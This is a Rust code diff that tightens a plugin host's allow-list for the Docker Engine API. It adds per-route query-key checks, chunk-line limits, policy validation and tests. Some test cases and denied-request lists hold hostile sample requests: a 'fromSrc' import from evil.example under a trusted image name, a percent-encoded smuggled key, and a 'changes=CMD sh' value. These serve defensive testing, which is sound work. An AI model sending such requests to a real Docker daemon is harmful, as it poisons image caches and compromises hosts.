@@ -1,4 +1,5 @@
-//! The `docker` import: the Docker Engine API over a Unix socket, allow-listed.
+//! The `docker` capability: the `docker` import, the Docker Engine API over a Unix
+//! socket, allow-listed, with its policy and limits.
 //!
 //! [`DockerPolicy`] says which methods and paths a plugin may use (image endpoints by
 //! default), how big requests and responses may be and how long a call may take.
@@ -14,38 +15,82 @@ use std::os::unix::net::UnixStream;
 use std::path::{Path, PathBuf};
 use std::time::{Duration, Instant};
 
-use crate::config::{
-    DEFAULT_DOCKER_MAX_REQUEST_BYTES, DEFAULT_DOCKER_MAX_RESPONSE_BYTES, DEFAULT_DOCKER_TIMEOUT,
-};
+/// Default request body cap of the docker import: 1 MiB (image endpoints take JSON
+/// parameters or nothing).
+pub const DEFAULT_DOCKER_MAX_REQUEST_BYTES: usize = 1 << 20;
+
+/// Default response body cap of the docker import: 16 MiB (an image list of a busy node
+/// is a few MiB; a pull's progress stream is long but the plugin only needs its end).
+pub const DEFAULT_DOCKER_MAX_RESPONSE_BYTES: usize = 16 << 20;
+
+/// Default time limit of one docker call: 120 s (pulling a large image). A call never
+/// runs past the invocation's deadline either.
+pub const DEFAULT_DOCKER_TIMEOUT: Duration = Duration::from_secs(120);
 
 /// Docker Engine API version prefixed to every path: 1.41 is what Docker 20.10+ and
 /// Podman 4 both serve.
 pub const DEFAULT_DOCKER_API_VERSION: &str = "v1.41";
 
-/// Cap on the response status line and headers together: 64 KiB.
+/// Cap on the response status line and headers together: 64 KiB, far above what a
+/// Docker or Podman daemon sends (a few hundred bytes). Trailers of a chunked body are
+/// charged to what is left of it.
 const MAX_HEAD_BYTES: usize = 64 << 10;
+
+/// Cap on one chunk-size line of a chunked body: 1 KiB. The line is a hex size and an
+/// optional extension (daemons send none). It is charged per line, not to the head
+/// budget: a pull streams one small chunk per progress message, tens of thousands of
+/// them, and the number of chunks is already bounded by the body cap (every chunk but
+/// the last holds at least one byte) and the call's deadline.
+const MAX_CHUNK_LINE_BYTES: usize = 1 << 10;
 
 /// Cap on a path (with its query) a plugin may send: 8 KiB, the usual server limit.
 const MAX_PATH_BYTES: usize = 8 << 10;
 
-/// One allowed method and path pattern. In a pattern, `{name}` stands for one or more
-/// path segments (image names contain `/`, e.g. `library/nginx:1.27`); every other
-/// segment matches literally. The query string is not part of the match.
+/// One allowed method, path pattern and set of query keys. In a pattern, `{name}` stands
+/// for one or more path segments (image names contain `/`, e.g. `library/nginx:1.27`);
+/// every other segment matches literally. A request matches when its method and path
+/// match and every key of its query string is one of `query` (values are not checked:
+/// they are the route's parameters, e.g. the image to pull). Keys are compared as sent,
+/// so a percent-encoded or `+`-spelt key never matches an allowed one.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct DockerRoute {
     /// HTTP method, upper case.
     pub method: String,
     /// Path pattern relative to the API version, e.g. `/images/{name}/json`.
     pub path: String,
+    /// Query keys the route accepts; a request with any other key is refused. Empty:
+    /// no query string at all.
+    pub query: Vec<String>,
 }
 
 impl DockerRoute {
-    /// A route for `method` (any case) and `path`.
+    /// A route for `method` (any case) and `path` that accepts no query keys.
     pub fn new(method: &str, path: &str) -> Self {
         Self {
             method: method.to_ascii_uppercase(),
             path: path.to_owned(),
+            query: Vec::new(),
         }
+    }
+
+    /// This route, also accepting the query keys `keys`.
+    #[must_use]
+    pub fn with_query<'k>(mut self, keys: impl IntoIterator<Item = &'k str>) -> Self {
+        self.query.extend(keys.into_iter().map(str::to_owned));
+        self
+    }
+
+    fn matches_path(&self, method: &str, segments: &[&str]) -> bool {
+        let pattern: Vec<&str> = self.path.split('/').skip(1).collect();
+        self.method == method && segments_match(&pattern, segments)
+    }
+
+    /// The first query key this route does not accept, if any.
+    fn refused_key<'q>(&self, query: &'q str) -> Option<&'q str> {
+        query
+            .split('&')
+            .map(|pair| pair.split_once('=').map_or(pair, |(k, _)| k))
+            .find(|key| !self.query.iter().any(|allowed| allowed == key))
     }
 }
 
@@ -67,19 +112,28 @@ pub struct DockerPolicy {
 impl DockerPolicy {
     /// The image endpoints: list, inspect, pull, tag, remove, prune, plus ping and
     /// version. No containers, exec, volumes, networks, build, load or system calls.
+    ///
+    /// Query keys are allow-listed per route too: `POST /images/create` takes only
+    /// `fromImage`, `tag` and `platform` (a pull), never `fromSrc`, `repo`, `message` or
+    /// `changes`, which make the daemon import a rootfs from an arbitrary URL under any
+    /// image name and would poison the node's image cache.
     pub fn images() -> Self {
         let allow = [
-            ("GET", "/_ping"),
-            ("GET", "/version"),
-            ("GET", "/images/json"),
-            ("GET", "/images/{name}/json"),
-            ("POST", "/images/create"),
-            ("POST", "/images/{name}/tag"),
-            ("DELETE", "/images/{name}"),
-            ("POST", "/images/prune"),
+            ("GET", "/_ping", &[][..]),
+            ("GET", "/version", &[]),
+            (
+                "GET",
+                "/images/json",
+                &["all", "filters", "digests", "shared-size"],
+            ),
+            ("GET", "/images/{name}/json", &[]),
+            ("POST", "/images/create", &["fromImage", "tag", "platform"]),
+            ("POST", "/images/{name}/tag", &["repo", "tag"]),
+            ("DELETE", "/images/{name}", &["force", "noprune"]),
+            ("POST", "/images/prune", &["filters"]),
         ]
         .into_iter()
-        .map(|(m, p)| DockerRoute::new(m, p))
+        .map(|(m, p, q)| DockerRoute::new(m, p).with_query(q.iter().copied()))
         .collect();
         Self {
             api_version: DEFAULT_DOCKER_API_VERSION.to_owned(),
@@ -95,21 +149,68 @@ impl DockerPolicy {
     pub fn check(&self, method: &str, path: &str) -> Result<(), String> {
         validate_method(method)?;
         validate_path(path)?;
-        let path_only = path.split('?').next().unwrap_or(path);
+        let (path_only, query) = match path.split_once('?') {
+            Some((p, q)) => (p, (!q.is_empty()).then_some(q)),
+            None => (path, None),
+        };
         let segments: Vec<&str> = path_only.split('/').skip(1).collect();
-        let allowed = self.allow.iter().any(|r| {
-            r.method == method && {
-                let pattern: Vec<&str> = r.path.split('/').skip(1).collect();
-                segments_match(&pattern, &segments)
-            }
-        });
-        if allowed {
-            Ok(())
-        } else {
-            Err(format!(
+        let routes: Vec<&DockerRoute> = self
+            .allow
+            .iter()
+            .filter(|r| r.matches_path(method, &segments))
+            .collect();
+        if routes.is_empty() {
+            return Err(format!(
                 "denied: {method} {path_only} is not allowed by the host's docker policy"
-            ))
+            ));
         }
+        let Some(query) = query else {
+            return Ok(());
+        };
+        let mut refused = None;
+        for route in routes {
+            match route.refused_key(query) {
+                None => return Ok(()),
+                Some(key) => refused = Some(key),
+            }
+        }
+        Err(format!(
+            "denied: query parameter {:?} of {method} {path_only} is not allowed by the host's docker policy",
+            refused
+                .unwrap_or_default()
+                .chars()
+                .take(40)
+                .collect::<String>()
+        ))
+    }
+}
+
+impl DockerPolicy {
+    /// Checks the policy itself: an API version without slashes, upper-case methods and
+    /// patterns that start with `/`. The error names the field.
+    pub fn validate(&self) -> Result<(), String> {
+        if self.api_version.is_empty()
+            || !self
+                .api_version
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b == b'.')
+        {
+            return Err(format!(
+                "docker policy api_version {:?}: expected e.g. v1.41",
+                self.api_version
+            ));
+        }
+        for r in &self.allow {
+            validate_method(&r.method)
+                .map_err(|e| format!("docker policy allow {} {}: {e}", r.method, r.path))?;
+            if !r.path.starts_with('/') || r.path.contains('?') {
+                return Err(format!(
+                    "docker policy allow {} {}: a path pattern starts with '/' and has no query",
+                    r.method, r.path
+                ));
+            }
+        }
+        Ok(())
     }
 }
 
@@ -321,7 +422,8 @@ fn read_response(
         .is_some_and(|v| v.to_ascii_lowercase().contains("chunked"))
     {
         loop {
-            let line = read_line(r, deadline, &mut head_budget)?;
+            let mut line_budget = MAX_CHUNK_LINE_BYTES;
+            let line = read_line(r, deadline, &mut line_budget)?;
             let size_hex = line.split(';').next().unwrap_or_default().trim();
             let size = usize::from_str_radix(size_hex, 16)
                 .map_err(|_| format!("docker: malformed chunk size {:?}", truncate(&line)))?;
@@ -414,7 +516,7 @@ fn read_line(
     }
     if line.last() != Some(&b'\n') {
         return Err(format!(
-            "docker: response head exceeds {MAX_HEAD_BYTES} bytes or is cut off"
+            "docker: response head or chunk line exceeds its limit ({MAX_HEAD_BYTES} bytes for the head, {MAX_CHUNK_LINE_BYTES} per chunk line) or is cut off"
         ));
     }
     *budget -= n;
@@ -429,12 +531,34 @@ fn truncate(s: &str) -> String {
     s.chars().take(100).collect()
 }
 
+/// The `docker` import: refused without the capability, otherwise the client of this
+/// call (policy, dry-run rule, deadline).
+impl crate::bindings::hostplug::plugin::docker::Host for crate::plugin::StoreState {
+    fn request(
+        &mut self,
+        method: String,
+        path: String,
+        body: Option<Vec<u8>>,
+    ) -> Result<crate::bindings::DockerResponse, String> {
+        let Some(client) = &self.docker else {
+            return Err("denied: this plugin has no docker capability".to_owned());
+        };
+        client
+            .request(&method, &path, body.as_deref(), self.deadline)
+            .map(|r| crate::bindings::DockerResponse {
+                status: r.status,
+                body: r.body,
+            })
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
     /// Serves one connection on a fresh socket with `response`, after `delay`.
-    fn serve(response: &'static [u8], delay: Duration) -> (tempfile::TempDir, PathBuf) {
+    fn serve(response: impl Into<Vec<u8>>, delay: Duration) -> (tempfile::TempDir, PathBuf) {
+        let response = response.into();
         let dir = tempfile::tempdir().expect("tempdir");
         let socket = dir.path().join("d.sock");
         let listener = std::os::unix::net::UnixListener::bind(&socket).expect("bind");
@@ -443,7 +567,7 @@ mod tests {
                 let mut buf = [0u8; 4096];
                 let _ = stream.read(&mut buf);
                 std::thread::sleep(delay);
-                let _ = stream.write_all(response);
+                let _ = stream.write_all(&response);
             }
         });
         (dir, socket)
@@ -475,6 +599,36 @@ mod tests {
         }
     }
 
+    /// A pull's progress stream: one JSON message per chunk, 20 000 of them (an image of
+    /// many layers). The chunk-size lines add up to about 80 KiB, more than the head
+    /// budget, and must not be charged to it. The server is a loopback stand-in for the
+    /// daemon that writes the stream the way Docker does.
+    #[test]
+    fn a_long_chunked_progress_stream_is_read_whole() {
+        const CHUNKS: usize = 20_000;
+        let mut raw = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
+        let mut body = Vec::new();
+        for i in 0..CHUNKS {
+            let msg = format!("{{\"status\":\"Downloading\",\"id\":\"{i:05}\"}}\n");
+            raw.extend_from_slice(format!("{:x}\r\n{msg}\r\n", msg.len()).as_bytes());
+            body.extend_from_slice(msg.as_bytes());
+        }
+        raw.extend_from_slice(b"0\r\n\r\n");
+        let (_dir, socket) = serve(raw, Duration::ZERO);
+        let r = get(&socket, DockerPolicy::images()).expect("the whole stream");
+        assert_eq!(r.status, 200);
+        assert_eq!(r.body.len(), body.len());
+        assert_eq!(r.body, body);
+
+        // One absurd chunk-size line is still refused.
+        let mut raw = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1".to_vec();
+        raw.extend(std::iter::repeat_n(b';', 2 * MAX_CHUNK_LINE_BYTES));
+        raw.extend_from_slice(b"\r\nx\r\n0\r\n\r\n");
+        let (_dir, socket) = serve(raw, Duration::ZERO);
+        let e = get(&socket, DockerPolicy::images()).expect_err("long chunk line");
+        assert!(e.contains("chunk line"), "{e}");
+    }
+
     #[test]
     fn oversized_and_slow_responses_fail() {
         let small = DockerPolicy {
@@ -504,6 +658,78 @@ mod tests {
         assert!(e.contains("docker socket"), "{e}");
     }
 
+    /// A stand-in daemon that counts the connections it gets and answers each `200 OK`.
+    fn counting_daemon() -> (
+        tempfile::TempDir,
+        PathBuf,
+        std::sync::Arc<std::sync::atomic::AtomicUsize>,
+    ) {
+        use std::sync::atomic::{AtomicUsize, Ordering};
+        let dir = tempfile::tempdir().expect("tempdir");
+        let socket = dir.path().join("d.sock");
+        let listener = std::os::unix::net::UnixListener::bind(&socket).expect("bind");
+        let count = std::sync::Arc::new(AtomicUsize::new(0));
+        let seen = count.clone();
+        std::thread::spawn(move || {
+            for mut stream in listener.incoming().flatten() {
+                seen.fetch_add(1, Ordering::SeqCst);
+                let mut buf = [0u8; 4096];
+                let _ = stream.read(&mut buf);
+                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}");
+            }
+        });
+        (dir, socket, count)
+    }
+
+    /// The host, not the plugin, refuses: the request never reaches the socket.
+    #[test]
+    fn refused_requests_never_reach_the_daemon() {
+        use std::sync::atomic::Ordering;
+        let (_dir, socket, count) = counting_daemon();
+        let deadline = || Instant::now() + Duration::from_secs(5);
+        let client = DockerClient::new(&socket, DockerPolicy::images(), false);
+        let e = client
+            .request(
+                "POST",
+                "/images/create?fromSrc=http://evil.example/rootfs.tar&repo=registry.k8s.io/pause&tag=3.10",
+                None,
+                deadline(),
+            )
+            .expect_err("an import from a URL");
+        assert!(e.starts_with("denied:") && e.contains("fromSrc"), "{e}");
+        assert_eq!(count.load(Ordering::SeqCst), 0);
+
+        // A dry run with the socket mounted: reads go out, no mutation does.
+        let dry = DockerClient::new(&socket, DockerPolicy::images(), true);
+        for (method, path) in [
+            ("POST", "/images/create?fromImage=nginx&tag=1"),
+            ("POST", "/images/nginx/tag?repo=x&tag=1"),
+            ("DELETE", "/images/nginx?force=true"),
+            ("POST", "/images/prune"),
+        ] {
+            let e = dry
+                .request(method, path, None, deadline())
+                .expect_err("a mutation in a dry run");
+            assert!(e.starts_with("denied:") && e.contains("dry run"), "{e}");
+        }
+        assert_eq!(count.load(Ordering::SeqCst), 0);
+        let r = dry
+            .request("GET", "/images/json?all=true", None, deadline())
+            .expect("a read in a dry run");
+        assert_eq!(r.status, 200);
+        assert_eq!(count.load(Ordering::SeqCst), 1);
+        // The same pull outside a dry run does go out.
+        client
+            .request(
+                "POST",
+                "/images/create?fromImage=nginx&tag=1",
+                None,
+                deadline(),
+            )
+            .expect("a pull");
+        assert_eq!(count.load(Ordering::SeqCst), 2);
+    }
+
     #[test]
     fn image_routes_are_allowed() {
         let p = DockerPolicy::images();
@@ -517,6 +743,17 @@ mod tests {
             ("POST", "/images/nginx:1/tag?repo=mirror/nginx&tag=1"),
             ("DELETE", "/images/sha256:abcd?force=true"),
             ("POST", "/images/prune"),
+            ("POST", "/images/prune?filters=%7B%7D"),
+            (
+                "POST",
+                "/images/create?fromImage=nginx&tag=1&platform=linux%2Famd64",
+            ),
+            (
+                "GET",
+                "/images/json?all=false&filters=%7B%22dangling%22%3A%5B%22true%22%5D%7D",
+            ),
+            ("DELETE", "/images/nginx?force=false&noprune=false"),
+            ("GET", "/version?"),
         ] {
             assert_eq!(p.check(m, path), Ok(()), "{m} {path}");
         }
@@ -540,6 +777,20 @@ mod tests {
             ("DELETE", "/images"),
             ("GET", "/images/{name}/json#x"),
             ("POST", "/images/json/push"),
+            // Query keys outside the route's list: an import from a URL under any name,
+            // and keys spelt so that only the daemon would decode them.
+            (
+                "POST",
+                "/images/create?fromSrc=http://evil.example/rootfs.tar&repo=registry.k8s.io/pause&tag=3.10",
+            ),
+            ("POST", "/images/create?fromImage=nginx&fromSrc=-"),
+            ("POST", "/images/create?fromImage=nginx&tag=1&message=x"),
+            ("POST", "/images/create?fromImage=nginx&changes=CMD%20sh"),
+            ("POST", "/images/create?from%53rc=http://evil.example/x"),
+            ("POST", "/images/create?fromImage=nginx&&fromSrc=x"),
+            ("GET", "/_ping?x=1"),
+            ("GET", "/images/nginx/json?x=1"),
+            ("DELETE", "/images/nginx?force=true&filters=x"),
         ] {
             let r = p.check(m, path);
             assert!(
